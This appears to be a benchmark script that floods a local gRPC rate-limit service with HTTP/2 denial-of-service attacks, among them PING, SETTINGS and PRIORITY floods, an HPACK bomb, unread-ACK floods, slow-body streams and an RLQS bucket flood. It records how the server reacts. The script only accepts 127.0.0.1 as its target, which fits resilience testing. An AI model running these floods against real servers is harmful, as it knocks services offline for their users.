'use strict';
/**
 * One attacker of bench/attacks.js: raw TCP connections (net.connect) to the service's gRPC port
 * that send the HTTP/2 connection preface and an empty SETTINGS, then flood as fast as the socket
 * takes it (the next batch when write() returned true, or on 'drain'; a few batches per loop turn
 * so timers and reads still run). What the server sends is read and parsed (frame headers only,
 * plus GOAWAY, RST_STREAM, SETTINGS and WINDOW_UPDATE payloads) and otherwise discarded, unless the
 * scenario does not read. When the server closes a connection, the attacker opens another and goes
 * on, as a real attacker would, and counts it. After `seconds` it closes everything, prints one
 * JSON line of counters on stdout and exits.
 *
 *   node bench/attacker.js '<json>'
 *     { "scenario": "valid" | "ping" | "settings" | "priority" | "window-update" | "empty-data"
 *                   | "hpack-bomb" | "ack-flood" | "body" | "rlqs",
 *       "host": "127.0.0.1", "port": 8081, "seconds": 11, "connections": 1,
 *       "message": "<hex of one gRPC RateLimitRequest message, without the 5-byte prefix>",
 *       "streams": 16 (body, rlqs: per connection), "declared": 1048576 (body),
 *       "buckets": 10000 (rlqs: per stream), "perReport": 2000 (rlqs), "domain": "bench", "key": "client_id" (rlqs) }
 *
 * Scenarios (see bench/README.md, "Attacks"):
 * - valid: ShouldRateLimit calls (HEADERS, then DATA with END_STREAM) on increasing odd stream
 *   ids, after a WINDOW_UPDATE that opens the connection window to 2^31-1 (answers never wait for
 *   flow control); a new connection before the stream ids run out.
 * - ping, settings, priority, window-update: PING / empty SETTINGS / PRIORITY (each on the next odd
 *   stream id, depending on the previous one) / WINDOW_UPDATE of 1 on stream 0, back to back.
 * - empty-data: a call opened without END_STREAM, then empty DATA frames on it; when the server
 *   ends that stream (its body timeout), the next one is opened.
 * - hpack-bomb: one call whose headers insert a 4000-byte literal into the dynamic table (index
 *   62), then header blocks of 60,000 bytes of 0xbe (indexed field 62), split into HEADERS and
 *   CONTINUATION frames, each ending its stream.
 * - ack-flood: PING frames on connections that never read (the socket's read side paused after
 *   its first buffer): the server's acknowledgements pile up. The lifetime of each connection
 *   (connect to close) is recorded, and the time until the server's FIN arrived (unread, so seen
 *   in the socket's TCP state: CLOSE_WAIT in /proc/net/tcp).
 * - body: `streams` calls per connection, each declaring a `declared`-byte message in its gRPC
 *   prefix and sending DATA as far as the server's windows allow (tracked from its SETTINGS and
 *   WINDOW_UPDATE frames; 65,535 initially), never the last byte, never END_STREAM. A stream the
 *   server ends is replaced by a new one, and a connection it closes by a new one, unless `hold`
 *   (the attack as issue 28 describes it: the calls are opened once and held).
 * - rlqs: the RLQS bucket flood of issue 40, over node:http2 (an application-level attack: flow
 *   control as any client does it). `streams` StreamRateLimitQuotas streams per connection, each
 *   reporting `buckets` distinct buckets (`key` = a value of its own) in reports of `perReport`,
 *   as fast as the stream takes them, then all of them again every second (Envoy's cadence is 5 s);
 *   a stream the server ends is replaced by a new one with new buckets, a connection by a new one.
 *   Counts the streams' ends by grpc-status and message, and the responses read.
 */
const fs = require('node:fs');
const net = require('node:net');

const cfg = JSON.parse(process.argv[2] ?? '{}');
if (cfg.host !== '127.0.0.1') throw new Error(`refusing host ${cfg.host}`);
const SCENARIOS = ['valid', 'ping', 'settings', 'priority', 'window-update', 'empty-data', 'hpack-bomb', 'ack-flood', 'body', 'rlqs'];
if (!SCENARIOS.includes(cfg.scenario)) throw new Error(`unknown scenario ${cfg.scenario}`);
const CONNECTIONS = cfg.connections ?? 1;
const MESSAGE = Buffer.from(cfg.message ?? '', 'hex');

// ---------------------------------------------------------------------------------------------
// HTTP/2 frames (RFC 9113 §4.1, §6)

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const T = { DATA: 0, HEADERS: 1, PRIORITY: 2, RST_STREAM: 3, SETTINGS: 4, PUSH_PROMISE: 5, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 };
const TYPE_NAMES = Object.fromEntries(Object.entries(T).map(([k, v]) => [v, k]));
const FLAG = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 };
const ERROR_NAMES = ['NO_ERROR', 'PROTOCOL_ERROR', 'INTERNAL_ERROR', 'FLOW_CONTROL_ERROR', 'SETTINGS_TIMEOUT', 'STREAM_CLOSED', 'FRAME_SIZE_ERROR', 'REFUSED_STREAM', 'CANCEL', 'COMPRESSION_ERROR', 'CONNECT_ERROR', 'ENHANCE_YOUR_CALM', 'INADEQUATE_SECURITY', 'HTTP_1_1_REQUIRED'];
const errorName = (code) => ERROR_NAMES[code] ?? `0x${code.toString(16)}`;
const MAX_FRAME = 16384; // SETTINGS_MAX_FRAME_SIZE: the server declares no other
const DEFAULT_WINDOW = 65535;
const MAX_WINDOW = 2 ** 31 - 1;
const MAX_STREAM_ID = 2 ** 31 - 1;
const EMPTY = Buffer.alloc(0);

/** The 9-byte frame header. */
function frameHeader(length, type, flags, id) {
  const h = Buffer.allocUnsafe(9);
  h.writeUIntBE(length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(id & 0x7fffffff, 5);
  return h;
}
const frame = (type, flags, id, payload = EMPTY) => Buffer.concat([frameHeader(payload.length, type, flags, id), payload]);
const u32 = (n) => {
  const b = Buffer.allocUnsafe(4);
  b.writeUInt32BE(n >>> 0);
  return b;
};
const settingsFrame = () => frame(T.SETTINGS, 0, 0);
const pingFrame = (payload = Buffer.from('attacker')) => frame(T.PING, 0, 0, payload);
/** PRIORITY on `id`: depends on `dependsOn`, weight 256. */
const priorityFrame = (id, dependsOn) => frame(T.PRIORITY, 0, id, Buffer.concat([u32(dependsOn), Buffer.from([255])]));
const windowUpdateFrame = (id, increment) => frame(T.WINDOW_UPDATE, 0, id, u32(increment));
const dataFrame = (id, payload, endStream) => frame(T.DATA, endStream ? FLAG.END_STREAM : 0, id, payload);
/** A header block as HEADERS plus CONTINUATIONs of at most MAX_FRAME bytes each. */
function headerFrames(id, block, endStream) {
  const out = [];
  for (let pos = 0; pos < block.length || pos === 0; pos += MAX_FRAME) {
    const part = block.subarray(pos, pos + MAX_FRAME);
    const last = pos + MAX_FRAME >= block.length;
    const flags = (last ? FLAG.END_HEADERS : 0) | (pos === 0 && endStream ? FLAG.END_STREAM : 0);
    out.push(frame(pos === 0 ? T.HEADERS : T.CONTINUATION, flags, id, part));
    if (block.length === 0) break;
  }
  return out;
}
/** Writes `id` into every frame header of `buf` (frames back to back, as built above). */
function setStreamIds(buf, id) {
  for (let pos = 0; pos + 9 <= buf.length; pos += 9 + buf.readUIntBE(pos, 3)) buf.writeUInt32BE(id, pos + 5);
}

// ---------------------------------------------------------------------------------------------
// HPACK (RFC 7541): integers, strings without Huffman, literals and indexed fields

function hpackInt(pattern, prefixBits, value) {
  const max = (1 << prefixBits) - 1;
  if (value < max) return Buffer.from([pattern | value]);
  const out = [pattern | max];
  let rest = value - max;
  while (rest >= 128) {
    out.push((rest % 128) | 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return Buffer.from(out);
}
const hpackString = (text) => {
  const b = Buffer.from(text, 'latin1');
  return Buffer.concat([hpackInt(0x00, 7, b.length), b]);
};
/** A literal field; `name` a static-table index or a new name; with incremental indexing or not. */
function literal(name, value, indexing = false) {
  const [pattern, bits] = indexing ? [0x40, 6] : [0x00, 4];
  const head = typeof name === 'number' ? hpackInt(pattern, bits, name) : Buffer.concat([Buffer.from([pattern]), hpackString(name)]);
  return Buffer.concat([head, hpackString(value)]);
}
const indexed = (index) => hpackInt(0x80, 7, index);

/** An HPACK integer at `pos` of `buf` with a `prefixBits` prefix: [value, next position]. */
function readHpackInt(buf, pos, end, prefixBits) {
  const max = (1 << prefixBits) - 1;
  let value = buf[pos++] & max;
  if (value < max) return [value, pos];
  let shift = 1;
  while (pos < end) {
    const b = buf[pos++];
    value += (b & 127) * shift;
    shift *= 128;
    if ((b & 128) === 0) break;
  }
  return [value, pos];
}
/**
 * The grpc-status of an answer's header block, or '?' when it cannot tell: enough HPACK for what
 * the server sends (static indexed fields, literals without indexing, no Huffman); never indexed
 * into the dynamic table, so no table is kept.
 */
function grpcStatusOf(buf, pos, end) {
  while (pos < end) {
    const first = buf[pos];
    if (first & 0x80) {
      [, pos] = readHpackInt(buf, pos, end, 7);
      continue;
    }
    if ((first & 0xe0) === 0x20) {
      [, pos] = readHpackInt(buf, pos, end, 5); // table size update
      continue;
    }
    let nameIndex;
    [nameIndex, pos] = readHpackInt(buf, pos, end, first & 0x40 ? 6 : 4);
    const text = () => {
      if (buf[pos] & 0x80) return null; // Huffman: not decoded here
      let n;
      [n, pos] = readHpackInt(buf, pos, end, 7);
      const t = buf.toString('latin1', pos, pos + n);
      pos += n;
      return t;
    };
    const name = nameIndex === 0 ? text() : null;
    const value = text();
    if (value === null) return '?';
    if (name === 'grpc-status') return value;
  }
  return '?';
}
const GRPC_CODES = ['OK', 'CANCELLED', 'UNKNOWN', 'INVALID_ARGUMENT', 'DEADLINE_EXCEEDED', 'NOT_FOUND', 'ALREADY_EXISTS', 'PERMISSION_DENIED', 'RESOURCE_EXHAUSTED', 'FAILED_PRECONDITION', 'ABORTED', 'OUT_OF_RANGE', 'UNIMPLEMENTED', 'INTERNAL', 'UNAVAILABLE', 'DATA_LOSS', 'UNAUTHENTICATED'];
const PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit';
/** The request headers of a ShouldRateLimit call, each a literal without indexing. */
const REQUEST_BLOCK = Buffer.concat([
  literal(2, 'POST'), // :method
  literal(6, 'http'), // :scheme
  literal(4, PATH), // :path
  literal(1, `${cfg.host}:${cfg.port}`), // :authority
  literal(31, 'application/grpc'), // content-type
  literal('te', 'trailers'),
]);
/** The gRPC length-prefixed message of the call. */
const GRPC_MESSAGE = (() => {
  const out = Buffer.alloc(5 + MESSAGE.length);
  out.writeUInt32BE(MESSAGE.length, 1);
  MESSAGE.copy(out, 5);
  return out;
})();

// ---------------------------------------------------------------------------------------------
// Counters

const stats = {
  scenario: cfg.scenario,
  connections: CONNECTIONS,
  connects: 0,
  reconnects: 0,
  /** Connections the server ended: with a FIN (we saw 'end'; then we close ours) or a reset / write error. */
  closedByServer: 0,
  serverFins: 0,
  serverResets: 0,
  ownCloses: 0,
  connectErrors: 0,
  framesSent: 0,
  bytesSent: 0,
  bytesReceived: 0,
  framesReceived: {},
  goaway: {},
  goawayDebug: {},
  rstReceived: {},
  /** HEADERS frames with END_STREAM from the server: streams it answered (trailers or trailers-only). */
  answers: 0,
  /** The same by grpc-status ('?' when the block could not be read). */
  answerStatus: {},
  /** DATA frames with a payload from the server: answers that carried a response message. */
  answerMessages: 0,
  streamsOpened: 0,
  headerBlocksSent: 0,
  bodyBytesSent: 0,
  lastError: null,
};
/** Lifetimes (ms, connect to close) of connections the server closed; of the first CONNECTIONS too. */
const lifetimes = [];
const firstLifetimes = [];
/**
 * A connection that does not read cannot see the server's GOAWAY and FIN: its TCP state can
 * (CLOSE_WAIT once the FIN arrived), read from /proc/net/tcp every 100 ms. Connect to FIN, in ms.
 */
const finTimes = [];
const firstFinTimes = [];
let stopping = false;
const live = new Set();

// ---------------------------------------------------------------------------------------------
// Scenario behaviours: what follows the preface, the next batch to write, reactions to frames

const BATCH_BYTES = 64 * 1024;
/** Batches one connection writes per loop turn before it lets timers and reads run. */
const BATCHES_PER_TURN = 4;

/** `count` copies of `unit` back to back. */
const repeat = (unit, count) => Buffer.concat(Array.from({ length: count }, () => unit));
const fill = (unit) => repeat(unit, Math.max(1, Math.floor(BATCH_BYTES / unit.length)));

/** A batch of frames on stream ids id, id+2, ... (a template of `perUnit`-frame units, copied and patched). */
function idBatch(template, unitBytes, perUnit, c) {
  const units = template.length / unitBytes;
  if (c.nextId + 2 * units > MAX_STREAM_ID) {
    c.ownClose(); // before the stream ids run out
    return null;
  }
  const buf = Buffer.from(template);
  for (let u = 0; u < units; u++) {
    setStreamIds(buf.subarray(u * unitBytes, (u + 1) * unitBytes), c.nextId);
    c.nextId += 2;
  }
  return { buf, frames: units * perUnit };
}

const behaviours = {
  valid() {
    const unit = Buffer.concat([...headerFrames(1, REQUEST_BLOCK, false), dataFrame(1, GRPC_MESSAGE, true)]);
    const template = fill(unit);
    return {
      init: () => [windowUpdateFrame(0, MAX_WINDOW - DEFAULT_WINDOW)],
      batch: (c) => idBatch(template, unit.length, 2, c),
    };
  },
  ping() {
    const buf = fill(pingFrame());
    const frames = buf.length / 17;
    return { batch: () => ({ buf, frames }) };
  },
  settings() {
    const buf = fill(settingsFrame());
    const frames = buf.length / 9;
    return { batch: () => ({ buf, frames }) };
  },
  priority() {
    const unit = priorityFrame(1, 0);
    const template = fill(unit);
    return {
      batch: (c) => {
        const first = c.nextId;
        const b = idBatch(template, unit.length, 1, c);
        if (b === null) return null;
        // Each depends on the one before (a chain: the priority tree a server that keeps one builds).
        for (let pos = 0, dep = first - 2; pos < b.buf.length; pos += unit.length, dep += 2) b.buf.writeUInt32BE(Math.max(0, dep), pos + 9);
        return b;
      },
    };
  },
  'window-update'() {
    const buf = fill(windowUpdateFrame(0, 1));
    const frames = buf.length / 13;
    return { batch: () => ({ buf, frames }) };
  },
  'empty-data'() {
    const template = fill(dataFrame(1, EMPTY, false));
    const frames = template.length / 9;
    return {
      init: (c) => {
        c.streamId = 1;
        c.nextId = 3;
        c.batchBuf = Buffer.from(template);
        stats.streamsOpened++;
        return headerFrames(1, REQUEST_BLOCK, false);
      },
      batch: (c) => {
        if (c.reopen) {
          // The server ended our stream: the next one, then empty DATA on it.
          c.reopen = false;
          if (c.nextId > MAX_STREAM_ID - 2) {
            c.ownClose();
            return null;
          }
          c.streamId = c.nextId;
          c.nextId += 2;
          stats.streamsOpened++;
          c.batchBuf = Buffer.from(template);
          setStreamIds(c.batchBuf, c.streamId);
          const open = Buffer.concat(headerFrames(c.streamId, REQUEST_BLOCK, false));
          return { buf: Buffer.concat([open, c.batchBuf]), frames: frames + 1 };
        }
        return { buf: c.batchBuf, frames };
      },
      streamEnded: (c, id) => {
        if (id === c.streamId) c.reopen = true;
      },
    };
  },
  'hpack-bomb'() {
    // The first call inserts the entry (name "x-bomb", 4000 bytes of value: 4038 of the 4096 of the table).
    const insert = Buffer.concat([REQUEST_BLOCK, literal('x-bomb', 'a'.repeat(4000), true)]);
    const bomb = Buffer.alloc(60_000, indexed(62)[0]); // 0xbe
    const template = Buffer.concat(headerFrames(3, bomb, true));
    const framesPerBlock = Math.ceil(bomb.length / MAX_FRAME);
    return {
      init: (c) => {
        c.nextId = 3;
        return [...headerFrames(1, insert, false), dataFrame(1, GRPC_MESSAGE, true)];
      },
      batch: (c) => {
        const b = idBatch(template, template.length, framesPerBlock, c);
        if (b !== null) stats.headerBlocksSent++;
        return b;
      },
    };
  },
  'ack-flood'() {
    return { ...behaviours.ping(), read: false };
  },
  body() {
    const declared = cfg.declared ?? 1 << 20;
    const perConnection = cfg.streams ?? 16;
    // The message as sent: its 5-byte prefix declaring `declared` bytes, then zeros; never the last byte.
    const BODY = Buffer.alloc(5 + declared);
    BODY.writeUInt32BE(declared, 1);
    const sendable = BODY.length - 1;
    const open = (c) => {
      const id = c.nextId;
      c.nextId += 2;
      c.streams.set(id, { sent: 0, window: c.peerInitialWindow });
      stats.streamsOpened++;
      return Buffer.concat(headerFrames(id, REQUEST_BLOCK, false));
    };
    return {
      init: (c) => {
        c.nextId = 1;
        c.streams = new Map();
        c.toOpen = 0;
        return Array.from({ length: perConnection }, () => open(c));
      },
      batch: (c) => {
        const parts = [];
        let frames = 0;
        let bytes = 0;
        while (c.toOpen > 0 && c.nextId <= MAX_STREAM_ID - 2) {
          c.toOpen--;
          parts.push(open(c));
          frames++;
        }
        // Round robin over the streams, a frame at a time, as far as the windows go.
        let progress = true;
        while (progress && bytes < BATCH_BYTES && c.connWindow > 0) {
          progress = false;
          for (const [id, s] of c.streams) {
            const n = Math.min(c.connWindow, s.window, MAX_FRAME, sendable - s.sent);
            if (n <= 0) continue;
            parts.push(frameHeader(n, T.DATA, 0, id), BODY.subarray(s.sent, s.sent + n));
            s.sent += n;
            s.window -= n;
            c.connWindow -= n;
            bytes += n;
            frames++;
            progress = true;
            if (c.connWindow <= 0 || bytes >= BATCH_BYTES) break;
          }
        }
        if (frames === 0) return null; // waits for a WINDOW_UPDATE or a stream to end
        stats.bodyBytesSent += bytes;
        return { buf: Buffer.concat(parts), frames };
      },
      streamEnded: (c, id) => {
        if (c.streams.delete(id) && !cfg.hold) {
          c.toOpen++;
          c.schedule();
        }
      },
      windowUpdate: (c, id, increment) => {
        if (id === 0) c.connWindow += increment;
        else {
          const s = c.streams.get(id);
          if (s !== undefined) s.window += increment;
        }
        c.schedule();
      },
      initialWindow: (c, delta) => {
        for (const s of c.streams.values()) s.window += delta;
        c.schedule();
      },
    };
  },
};
behaviours.rlqs = () => ({ run: runRlqs });
const behaviour = behaviours[cfg.scenario]();
const READS = behaviour.read !== false;

// ---------------------------------------------------------------------------------------------
// Connections

const inc = (obj, key) => (obj[key] = (obj[key] ?? 0) + 1);

function onFrame(c, type, flags, id, buf, start, end) {
  inc(stats.framesReceived, TYPE_NAMES[type] ?? `type-${type}`);
  switch (type) {
    case T.DATA:
      if (end > start) stats.answerMessages++;
      break;
    case T.HEADERS:
      if (flags & FLAG.END_STREAM) {
        stats.answers++;
        const code = flags & FLAG.END_HEADERS ? grpcStatusOf(buf, start, end) : '?';
        inc(stats.answerStatus, GRPC_CODES[Number(code)] ?? code);
        behaviour.streamEnded?.(c, id);
      }
      break;
    case T.RST_STREAM:
      if (end - start === 4) inc(stats.rstReceived, errorName(buf.readUInt32BE(start)));
      behaviour.streamEnded?.(c, id);
      break;
    case T.GOAWAY:
      if (end - start >= 8) {
        const code = errorName(buf.readUInt32BE(start + 4));
        inc(stats.goaway, code);
        const debug = `${code}: ${buf.toString('utf8', start + 8, end)}`;
        if (Object.keys(stats.goawayDebug).length < 10 || debug in stats.goawayDebug) inc(stats.goawayDebug, debug);
      }
      break;
    case T.SETTINGS:
      if ((flags & FLAG.ACK) === 0) {
        for (let p = start; p + 6 <= end; p += 6) {
          if (buf.readUInt16BE(p) !== 0x4) continue; // INITIAL_WINDOW_SIZE
          const value = buf.readUInt32BE(p + 2);
          const delta = value - c.peerInitialWindow;
          c.peerInitialWindow = value;
          behaviour.initialWindow?.(c, delta);
        }
      }
      break;
    case T.WINDOW_UPDATE:
      if (end - start === 4) behaviour.windowUpdate?.(c, id, buf.readUInt32BE(start) & 0x7fffffff);
      break;
    default:
      break;
  }
}

function pump(c) {
  c.scheduled = false;
  if (c.dead || stopping || c.waitingDrain) return;
  for (let i = 0; i < BATCHES_PER_TURN; i++) {
    const b = behaviour.batch(c);
    if (b === null || c.dead) return; // an event (window update, stream end) schedules the next
    stats.framesSent += b.frames;
    stats.bytesSent += b.buf.length;
    if (!c.socket.write(b.buf)) {
      c.waitingDrain = true;
      return;
    }
  }
  c.schedule();
}

function connect(first) {
  const socket = net.connect({ host: cfg.host, port: cfg.port, noDelay: true });
  const c = {
    socket,
    first,
    connectedAt: null,
    dead: false,
    own: false,
    serverEnded: false,
    finAt: null,
    scheduled: false,
    waitingDrain: false,
    nextId: 1,
    connWindow: DEFAULT_WINDOW,
    peerInitialWindow: DEFAULT_WINDOW,
    input: EMPTY,
    schedule() {
      if (c.scheduled || c.waitingDrain || c.dead || stopping) return;
      c.scheduled = true;
      setImmediate(pump, c);
    },
    ownClose() {
      c.own = true;
      socket.destroy();
    },
  };
  live.add(c);
  socket.on('connect', () => {
    c.connectedAt = performance.now();
    stats.connects++;
    if (!first) stats.reconnects++;
    const init = [PREFACE, settingsFrame(), ...(behaviour.init?.(c) ?? [])];
    const buf = Buffer.concat(init);
    stats.bytesSent += buf.length;
    stats.framesSent += init.length - 1;
    if (!socket.write(buf)) c.waitingDrain = true;
    if (!READS) socket.pause();
    c.schedule();
  });
  if (READS) {
    socket.on('data', (chunk) => {
      stats.bytesReceived += chunk.length;
      const buf = c.input.length === 0 ? chunk : Buffer.concat([c.input, chunk]);
      let pos = 0;
      while (buf.length - pos >= 9) {
        const length = buf.readUIntBE(pos, 3);
        if (buf.length - pos - 9 < length) break;
        onFrame(c, buf[pos + 3], buf[pos + 4], buf.readUInt32BE(pos + 5) & 0x7fffffff, buf, pos + 9, pos + 9 + length);
        pos += 9 + length;
      }
      c.input = pos === buf.length ? EMPTY : Buffer.from(buf.subarray(pos));
    });
  }
  socket.on('drain', () => {
    c.waitingDrain = false;
    c.schedule();
  });
  // The server's FIN: it is done with this connection (after a GOAWAY, or not), so are we. A real
  // attacker does not wait for its unsent bytes to drain into a server that stopped reading them.
  socket.on('end', () => {
    c.serverEnded = true;
    socket.destroy();
  });
  socket.on('error', (err) => {
    stats.lastError = err.code ?? err.message;
  });
  socket.on('close', () => {
    c.dead = true;
    live.delete(c);
    if (stopping) return;
    if (c.connectedAt === null) {
      stats.connectErrors++;
      setTimeout(connect, 20, first); // refused: do not spin
      return;
    }
    if (c.own) stats.ownCloses++;
    else {
      stats.closedByServer++;
      if (c.serverEnded) stats.serverFins++;
      else stats.serverResets++;
      const ms = performance.now() - c.connectedAt;
      lifetimes.push(ms);
      if (first) firstLifetimes.push(ms);
    }
    if (!cfg.hold) setImmediate(connect, false);
  });
}

/** { n, p50, p99, max } of an array of milliseconds. */
function summary(values) {
  if (values.length === 0) return { n: 0, p50: null, p99: null, max: null };
  const s = [...values].sort((a, b) => a - b);
  const at = (q) => s[Math.min(s.length - 1, Math.max(0, Math.ceil(q * s.length) - 1))];
  return { n: s.length, p50: at(0.5), p99: at(0.99), max: s[s.length - 1] };
}

/** Marks the connections whose socket is in CLOSE_WAIT (the server sent its FIN). */
function watchFins() {
  let table;
  try {
    table = fs.readFileSync('/proc/net/tcp', 'utf8');
  } catch {
    return;
  }
  const serverPort = cfg.port.toString(16).toUpperCase().padStart(4, '0');
  const closeWait = new Set();
  for (const line of table.split('\n')) {
    // "  1: 0100007F:B021 0100007F:E17A 08 ...": local, remote, state (08 = CLOSE_WAIT)
    const f = line.trim().split(/\s+/);
    if (f[3] === '08' && f[2]?.endsWith(`:${serverPort}`)) closeWait.add(parseInt(f[1].split(':')[1], 16));
  }
  const now = performance.now();
  for (const c of live) {
    if (c.finAt !== null || c.connectedAt === null || !closeWait.has(c.socket.localPort)) continue;
    c.finAt = now;
    finTimes.push(now - c.connectedAt);
    if (c.first) firstFinTimes.push(now - c.connectedAt);
  }
}

// ---------------------------------------------------------------------------------------------
// RLQS bucket flood (node:http2)

/** Protobuf bytes: a varint, a length-delimited field. */
function varint(n) {
  const out = [];
  while (n >= 128) {
    out.push((n % 128) | 128);
    n = Math.floor(n / 128);
  }
  out.push(n);
  return Buffer.from(out);
}
const field = (tag, bytes) => Buffer.concat([varint(tag), varint(bytes.length), bytes]);
/** One BucketQuotaUsage of bucket {key: value}: time_elapsed `elapsed` s, one request allowed. */
function usage(key, value, elapsed) {
  const entry = field(0x0a, Buffer.concat([field(0x0a, Buffer.from(key)), field(0x12, Buffer.from(value))]));
  const id = field(0x0a, entry);
  const duration = field(0x12, elapsed > 0 ? Buffer.concat([varint(0x08), varint(elapsed)]) : Buffer.alloc(0));
  return field(0x12, Buffer.concat([id, duration, varint(0x18), varint(1)]));
}
/** A RateLimitQuotaUsageReports of these values as a gRPC message (its 5-byte prefix included). */
function reportFrame(domain, key, values, elapsed) {
  const body = Buffer.concat([field(0x0a, Buffer.from(domain)), ...values.map((v) => usage(key, v, elapsed))]);
  const head = Buffer.alloc(5);
  head.writeUInt32BE(body.length, 1);
  return Buffer.concat([head, body]);
}

function runRlqs() {
  const http2 = require('node:http2');
  const perStream = cfg.buckets ?? 10_000;
  const perReport = cfg.perReport ?? 2000;
  const streamsPerConnection = cfg.streams ?? 100;
  const domain = cfg.domain ?? 'bench';
  const key = cfg.key ?? 'client_id';
  Object.assign(stats, { streamsOpened: 0, streamEnds: {}, endReasons: {}, bucketsSent: 0, reportsSent: 0, responses: 0, responseBytes: 0 });
  let nextStream = 0;
  const sessions = new Set();
  const openSession = (first) => {
    const session = http2.connect(`http://${cfg.host}:${cfg.port}`, { settings: { enablePush: false, initialWindowSize: 2 ** 31 - 1 }, maxSessionMemory: 1024 });
    sessions.add(session);
    session.on('connect', () => {
      stats.connects++;
      if (!first) stats.reconnects++;
      session.setLocalWindowSize(2 ** 31 - 1);
    });
    session.on('error', (err) => (stats.lastError = err.code ?? err.message));
    session.on('goaway', (code) => inc(stats.goaway, errorName(code)));
    session.on('close', () => {
      sessions.delete(session);
      if (stopping) return;
      if (stats.connects === 0) stats.connectErrors++;
      else stats.closedByServer++;
      setTimeout(openSession, 20, false);
    });
    for (let i = 0; i < streamsPerConnection; i++) openStream(session);
  };
  const openStream = (session) => {
    if (stopping || session.closed || session.destroyed) return;
    const id = nextStream++;
    stats.streamsOpened++;
    let req;
    try {
      req = session.request({ ':method': 'POST', ':path': '/envoy.service.rate_limit_quota.v3.RateLimitQuotaService/StreamRateLimitQuotas', 'content-type': 'application/grpc', te: 'trailers' });
    } catch (err) {
      stats.lastError = err.code ?? err.message;
      return;
    }
    const values = Array.from({ length: perStream }, (_, i) => `s${id}-b${i}`);
    // The same reports every second: each encoded once (the attacker's own CPU is not what is measured).
    const frames = new Map();
    const frameOf = (from, again) => {
      const k = `${from}:${again}`;
      let f = frames.get(k);
      if (f === undefined) frames.set(k, (f = reportFrame(domain, key, values.slice(from, from + perReport), again ? 1 : 0)));
      return f;
    };
    let sent = 0;
    let ended = false;
    let trailers = null;
    let timer = null;
    req.on('response', (h) => (trailers = h));
    req.on('trailers', (t) => (trailers = t));
    req.on('data', (d) => {
      stats.responses++;
      stats.responseBytes += d.length;
    });
    req.on('error', (err) => (stats.lastError = err.code ?? err.message));
    req.on('close', () => {
      ended = true;
      clearTimeout(timer);
      const code = trailers?.['grpc-status'] ?? (req.rstCode ? `RST ${errorName(req.rstCode)}` : '?');
      inc(stats.streamEnds, GRPC_CODES[Number(code)] ?? String(code));
      const reason = trailers?.['grpc-message'];
      if (reason && (Object.keys(stats.endReasons).length < 10 || reason in stats.endReasons)) inc(stats.endReasons, decodeURIComponent(reason));
      if (!stopping) setImmediate(openStream, session);
    });
    // The next report: new buckets until all are sent, then all of them again each second.
    const next = () => {
      if (ended || stopping) return;
      const again = sent >= perStream;
      const from = again ? (sent - perStream) % perStream : sent;
      const n = Math.min(perReport, perStream - from);
      const frame = frameOf(from, again);
      sent += n;
      stats.reportsSent++;
      stats.bucketsSent += n;
      stats.bytesSent += frame.length;
      const ok = req.write(frame);
      const after = () => {
        if (sent >= perStream && (sent - perStream) % perStream === 0) timer = setTimeout(next, 1000);
        else setImmediate(next);
      };
      if (ok) after();
      else req.once('drain', after);
    };
    next();
  };
  for (let i = 0; i < CONNECTIONS; i++) openSession(true);
  stopRlqs = () => {
    for (const s of sessions) s.destroy();
  };
}
let stopRlqs = () => {};

function finish() {
  if (stopping) return;
  stopping = true;
  stopRlqs();
  const now = performance.now();
  const openAges = [...live].filter((c) => c.connectedAt !== null).map((c) => now - c.connectedAt);
  const firstOpen = [...live].filter((c) => c.first && c.connectedAt !== null).length;
  for (const c of live) c.socket.destroy();
  const out = {
    ...stats,
    lifetimesMs: summary(lifetimes),
    firstConnections: { n: CONNECTIONS, closedByServer: firstLifetimes.length, stillOpen: firstOpen, lifetimesMs: summary(firstLifetimes) },
    ...(READS ? {} : { finMs: summary(finTimes), firstFinMs: summary(firstFinTimes) }),
    openAtEnd: openAges.length,
    openAtEndAgesMs: summary(openAges),
  };
  process.stdout.write(`${JSON.stringify(out)}\n`, () => process.exit(0));
}

if (behaviour.run) behaviour.run();
else for (let i = 0; i < CONNECTIONS; i++) connect(true);
if (!READS) setInterval(watchFins, 100).unref();
setTimeout(finish, (cfg.seconds ?? 10) * 1000);
process.on('SIGTERM', finish);
// Never outlive the run by more than 10 s, whatever happens.
setTimeout(() => process.exit(3), (cfg.seconds ?? 10) * 1000 + 10_000).unref();
